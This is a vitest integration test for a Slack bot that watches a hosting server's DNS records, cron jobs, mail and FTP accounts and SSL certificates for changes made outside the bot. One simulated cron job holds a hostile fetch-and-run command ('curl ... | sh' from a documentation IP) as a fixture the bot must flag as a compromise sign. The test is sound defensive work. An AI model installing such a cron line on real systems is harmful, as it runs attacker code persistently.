/**
 * The hosting watch's record lists end to end with the manual clock: the
 * simulator's control panel driven over HTTP, a real store, the watcher and
 * the notifier. A DNS record and a cron job added outside the bot are told
 * once (the cron job with the warning that it is a classic sign of a
 * compromised site), mail and FTP accounts added or removed likewise; the
 * bot's own changes (audited as /hosting audits them) are never told; a free
 * certificate close to its expiry is a notice, once; an expired one is the
 * `ssl-expired` alarm, claimable and resolved when it is renewed.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { hostingWatchTarget, type IncidentRow, OUTSIDE_CHANGE_ACTION } from '../../src/store/index.ts';
import { SSL_EXPIRY_NOTICE_DAYS } from '../../src/watch/hosting-record-watch.ts';
import { claim } from './support/on-call.ts';
import { drain as drainFor, read } from './support/steps.ts';
import { CHANNEL, type Kind, makeWorld, ONCALL, type World } from './support/world.ts';

const S = 'xs100001.xsrv.jp';
const DAY = 86_400_000;

let world: World | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

const drain = (w: World) => drainFor(w, 3_000);

async function recordsWorld(kind: Kind = 'sqlite'): Promise<World> {
  const w = await makeWorld({ kind, servers: 1 });
  w.sim.control.addHostingServer(S, { domains: ['shop.jp'] });
  await w.a.store.watches.add({ target: hostingWatchTarget(S), channelId: CHANNEL, createdBy: 'U0OPS' });
  return w;
}

/** The control panel, as a person outside the bot uses it: over the simulator's HTTP control API. */
async function panel(
  w: World,
  method: string,
  path: string,
  body?: unknown,
): Promise<Record<string, unknown>> {
  const res = await fetch(`${w.sim.url}/__sim/hosting/${S}${path}`, {
    method,
    headers: body === undefined ? {} : { 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await res.text();
  if (!res.ok) throw new Error(`${method} ${path}: ${res.status} ${text}`);
  return text === '' ? {} : (JSON.parse(text) as Record<string, unknown>);
}

/** What the bot writes in its audit trail when it makes a change through /hosting. */
async function botDid(w: World, action: string, params: Record<string, unknown>): Promise<void> {
  await w.a.store.audit.append({
    actor: 'U0OPS',
    channelId: CHANNEL,
    action,
    target: S,
    params,
    outcome: 'ok',
  });
}

async function outsideChanges(w: World): Promise<unknown[]> {
  return (await w.a.store.audit.latest({ target: S, limit: 100 }))
    .filter((r) => r.action === OUTSIDE_CHANGE_ACTION)
    .map((r) => r.params.change);
}

/** Two rounds: the first sight, then the second look that tells what no audit row explains. */
async function twoRounds(w: World): Promise<void> {
  await read(w);
  await drain(w);
  await read(w);
  await drain(w);
}

async function expiryAlarm(w: World, domain: string): Promise<IncidentRow> {
  const inc = await w.a.store.incidents.latestFor('ssl-expired', `ssl-expiry:${S}/${domain}`);
  if (!inc) throw new Error(`no ssl-expired alarm for ${domain}`);
  return inc;
}

describe.each<Kind>(['sqlite', 'postgres'])('the hosting watch of record lists on %s', (kind) => {
  it('tells a DNS record and a cron job added outside once, the cron job as a sign of compromise; the bot’s own never', async () => {
    world = await recordsWorld(kind);
    const w = world;
    await read(w);
    await drain(w);
    expect(w.slack.posts).toHaveLength(0);

    await panel(w, 'POST', '/dns', { domain: 'shop.jp', host: 'mx2', type: 'A', content: '203.0.113.9' });
    await read(w);
    await drain(w);
    // Seen once: the bot's own audit row may still be on its way.
    expect(w.slack.posts).toHaveLength(0);
    await read(w);
    await drain(w);
    expect(w.slack.topLevel(CHANNEL).map((p) => p.text)).toEqual([
      expect.stringMatching(
        /^:memo: The DNS record \*mx2\.shop\.jp\* `A 203\.0\.113\.9` was added to the hosting server `xs100001\.xsrv\.jp` outside Slack/,
      ),
    ]);
    expect(JSON.stringify(w.slack.posts[0]!.blocks)).toContain(`/hosting ${S} dns`);
    // Not again on the next rounds.
    await twoRounds(w);
    expect(w.slack.posts).toHaveLength(1);

    const { id: cronId } = await panel(w, 'POST', '/cron', {
      minute: '*/5',
      hour: '*',
      day: '*',
      month: '*',
      weekday: '*',
      command: 'curl -s http://198.51.100.66/x.sh | sh',
      comment: 'cache',
    });
    await twoRounds(w);
    const cron = w.slack.topLevel(CHANNEL).slice(1);
    expect(cron.map((p) => p.text)).toEqual([
      expect.stringMatching(
        new RegExp(
          `^:warning: The cron job \`${String(cronId)}\` \\(\\*/5 \\* \\* \\* \\*, “cache”\\) was added to the hosting server \`xs100001\\.xsrv\\.jp\` outside Slack`,
        ),
      ),
    ]);
    expect(cron[0]!.text).toContain('A cron job nobody here added is a classic sign of a compromised site');
    expect(cron[0]!.text).toContain(`/hosting ${S} cron`);
    // The command is never told, stored nor audited (it may hold a password).
    expect(JSON.stringify(w.slack.posts)).not.toContain('198.51.100.66');
    expect(JSON.stringify(await w.a.store.hostingSnapshots.all())).not.toContain('198.51.100.66');
    await twoRounds(w);
    expect(w.slack.posts).toHaveLength(2);
    expect(await outsideChanges(w)).toEqual(['cron-added', 'dns-added']);

    // The bot's own: a record added, a job edited (its id changes) and a job deleted, each audited as /hosting does.
    const api = w.a.client.hosting(S);
    await api.addDns({ domain: 'shop.jp', host: 'www2', type: 'CNAME', content: 'shop.jp' });
    await botDid(w, 'hosting.dns_add', {
      domain: 'shop.jp',
      host: 'www2',
      type: 'CNAME',
      content: 'shop.jp',
    });
    const edited = await api.updateCron(String(cronId), { hour: '3', minute: '0' });
    const newId = String(edited.id);
    // An edit gives the job a new id (docs/provider-api.md): one job changed, explained by its row.
    expect(newId).not.toBe(String(cronId));
    await botDid(w, 'hosting.cron_change', { id: String(cronId), hour: '3', minute: '0' });
    await twoRounds(w);
    await api.deleteCron(newId);
    await botDid(w, 'hosting.cron_delete', {
      kind: 'hosting.cron_delete',
      id: newId,
      operation: 'op-1',
      approver: 'U0OPS',
    });
    await twoRounds(w);
    await twoRounds(w);
    expect(w.slack.posts).toHaveLength(2);
    expect(await outsideChanges(w)).toEqual(['cron-added', 'dns-added']);
  });
});

describe('the hosting watch of record lists', () => {
  it('tells mail and FTP accounts added or removed outside, a DNS record changed and removed; the bot’s mail account is not told', async () => {
    world = await recordsWorld();
    const w = world;
    const { id } = await panel(w, 'POST', '/dns', {
      domain: 'shop.jp',
      host: 'old',
      type: 'A',
      content: '203.0.113.1',
    });
    await read(w);
    await panel(w, 'POST', '/mail', { address: 'sales@shop.jp' });
    await panel(w, 'POST', '/ftp', { account: 'dev@shop.jp', directory: '/public_html' });
    await panel(w, 'PUT', `/dns/${String(id)}`, { content: '203.0.113.2' });
    await twoRounds(w);
    const shown = JSON.stringify(w.slack.posts);
    expect(shown).toContain('mail account created outside Slack: sales@shop.jp');
    expect(shown).toContain('FTP account added outside Slack: dev@shop.jp');
    expect(shown).toContain('DNS record changed outside Slack: old.shop.jp `A 203.0.113.2`');
    expect((await outsideChanges(w)).sort()).toEqual(['dns-changed', 'ftp-added', 'mail-added']);

    const posts = w.slack.posts.length;
    await panel(w, 'DELETE', '/mail/sales@shop.jp');
    await panel(w, 'DELETE', '/ftp/dev@shop.jp');
    await panel(w, 'DELETE', `/dns/${String(id)}`);
    await w.a.client.hosting(S).createMail({ mail_address: 'info@shop.jp', password: 'Secret-Pass-2026' });
    await botDid(w, 'hosting.mail_add', { mail_address: 'info@shop.jp', generated: false });
    await twoRounds(w);
    await twoRounds(w);
    const after = JSON.stringify(w.slack.posts.slice(posts));
    expect(after).toContain('mail account deleted outside Slack: sales@shop.jp');
    expect(after).toContain('FTP account removed outside Slack: dev@shop.jp');
    expect(after).toContain('DNS record removed outside Slack: old.shop.jp');
    expect(after).not.toContain('info@shop.jp');
    expect((await outsideChanges(w)).sort()).toEqual([
      'dns-changed',
      'dns-removed',
      'ftp-added',
      'ftp-removed',
      'mail-added',
      'mail-removed',
    ]);
  });

  it('takes a record removed while the bot’s confirmed delete is under way (no audit row yet) as the bot’s own', async () => {
    world = await recordsWorld();
    const w = world;
    const { id } = await panel(w, 'POST', '/dns', {
      domain: 'shop.jp',
      host: 'gone',
      type: 'A',
      content: '203.0.113.5',
    });
    await read(w);
    // The confirmed operation: its one request is sent, its audit row comes once the provider answers.
    const op = await w.a.store.operations.create({
      kind: 'hosting.dns_delete',
      target: S,
      params: { request: { kind: 'hosting.dns_delete', id: String(id) }, loss: {} },
      requesterId: 'U0OPS',
      channelId: CHANNEL,
      needsApproval: false,
      expiresAt: new Date(w.time.now().getTime() + 15 * 60_000),
    });
    await w.a.store.operations.transition(op.id, ['pending'], 'approved');
    await w.a.store.operations.transition(op.id, ['approved'], 'executing');
    await w.a.client.hosting(S).deleteDns(Number(id));
    await twoRounds(w);
    await twoRounds(w);
    expect(w.slack.posts).toHaveLength(0);
    expect(await outsideChanges(w)).toEqual([]);
    // The same delete made in the control panel is told.
    const { id: other } = await panel(w, 'POST', '/dns', {
      domain: 'shop.jp',
      host: 'other',
      type: 'A',
      content: '203.0.113.6',
    });
    await twoRounds(w);
    await panel(w, 'DELETE', `/dns/${String(other)}`);
    await twoRounds(w);
    expect(await outsideChanges(w)).toEqual(['dns-removed', 'dns-added']);
  });

  it('tells a free certificate close to its expiry once, and raises the ssl-expired alarm once it expired: claimed, resolved on renewal', async () => {
    world = await recordsWorld();
    const w = world;
    await read(w);
    await drain(w);
    expect(w.slack.posts).toHaveLength(0);

    const now = w.time.now().getTime();
    await panel(w, 'POST', '/ssl-expiry', {
      commonName: 'shop.jp',
      expiresAt: new Date(now + (SSL_EXPIRY_NOTICE_DAYS + 1) * DAY).toISOString(),
    });
    await read(w);
    await drain(w);
    expect(w.slack.posts).toHaveLength(0);
    await panel(w, 'POST', '/ssl-expiry', {
      commonName: 'shop.jp',
      expiresAt: new Date(now + 10 * DAY).toISOString(),
    });
    await read(w);
    await drain(w);
    expect(w.slack.topLevel(CHANNEL).map((p) => p.text)).toEqual([
      expect.stringMatching(
        /^:hourglass_flowing_sand: The free SSL certificate of \*shop\.jp\* on the hosting server `xs100001\.xsrv\.jp` expires <!date\^/,
      ),
    ]);
    await twoRounds(w);
    expect(w.slack.posts).toHaveLength(1);

    // Ten days on, a minute past its expiry: the alarm.
    await w.time.advance(10 * DAY + 60_000);
    await read(w);
    await drain(w);
    const alert = w.slack.topLevel(CHANNEL)[1]!;
    expect(alert.text.split('\n')[0]).toMatch(
      new RegExp(
        `^:rotating_light: ${ONCALL.replace(/[\\^$.*+?()[\]{}|]/g, '\\$&')} The free SSL certificate of \\*shop\\.jp\\* expired <!date\\^`,
      ),
    );
    expect(alert.text).toContain(`/hosting ${S} ssl add shop.jp`);
    expect(JSON.stringify(alert.blocks)).toContain('watch_incident_claim');
    await twoRounds(w);
    expect(w.slack.topLevel(CHANNEL)).toHaveLength(2);

    const r = await claim(w, await expiryAlarm(w, 'shop.jp'), 'U0ALICE');
    expect(r.decision.kind).toBe('approved');
    await drain(w);
    expect(w.slack.current.get(alert.ts)!.text).toContain('<@U0ALICE> is on it');

    // Renewed (the provider's list shows a new expiry): resolved in place.
    await w.time.advance(30 * 60_000);
    await panel(w, 'POST', '/ssl-expiry', {
      commonName: 'shop.jp',
      expiresAt: new Date(w.time.now().getTime() + 90 * DAY).toISOString(),
    });
    await read(w);
    await drain(w);
    const top = w.slack.current.get(alert.ts)!;
    expect(top.text).toMatch(/^:white_check_mark: The free SSL certificate of \*shop\.jp\* is valid again/);
    expect(top.text).toContain('<@U0ALICE> was on it');
    expect(JSON.stringify(top.blocks)).not.toContain('watch_incident_claim');
    expect((await expiryAlarm(w, 'shop.jp')).resolvedAt).not.toBeNull();
    await twoRounds(w);
    expect(w.slack.topLevel(CHANNEL)).toHaveLength(2);
  });
});
